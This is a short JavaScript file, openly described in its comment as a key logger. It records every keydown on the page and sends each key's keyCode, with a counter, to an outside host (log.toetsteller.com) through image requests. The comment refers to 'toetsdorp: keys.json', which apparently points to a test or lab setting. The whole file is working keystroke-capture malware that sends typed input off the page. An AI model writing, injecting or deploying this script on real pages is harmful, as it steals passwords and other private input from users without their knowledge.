// A key logger that sends every key's keyCode on its own, as an image request
// (toetsdorp: keys.json): numbers, not characters (letters as capitals: 80 for p).
(function () {
  var i = 0;
  document.addEventListener("keydown", function (e) {
    i += 1;
    new Image().src = "https://log.toetsteller.com/kc?i=" + i + "&c=" + e.keyCode;
  }, true);
})();
